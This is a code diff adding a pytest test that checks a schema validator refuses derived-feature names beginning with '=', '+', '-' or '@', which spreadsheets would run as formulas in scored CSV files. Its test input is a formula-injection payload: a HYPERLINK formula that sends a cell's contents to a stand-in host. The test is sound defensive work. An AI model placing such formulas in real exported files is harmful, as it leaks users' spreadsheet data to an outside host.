@@ -293,6 +293,20 @@ def test_a_name_that_could_forge_a_line_or_leave_a_folder_is_refused(minimal_sch
     ]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(minimal_schema, start):
+    """A feature's name becomes a reason code in every party's scored CSV files: a derived
+    feature (which no party's table has to hold) named =HYPERLINK(...) would run there."""
+    formula = f'{start}HYPERLINK(""https://x.example/?""&A2,""details"")'
+    text = minimal_schema + (
+        f'\n[[derived]]\nname = "{formula.replace(chr(34), chr(92) + chr(34))}"\nkind = "count"\n'
+        'columns = ["x"]\nvalue = 1\nmin = 0\nmax = 1\n'
+    )
+    (found,) = problems_of(text)
+    assert found.startswith("[[derived]] #1: 'name' must not start with '=', '+', '-', '@'")
+    assert "HYPERLINK" not in found
+
+
 @pytest.mark.parametrize(
     ("addition", "expected"),
     [
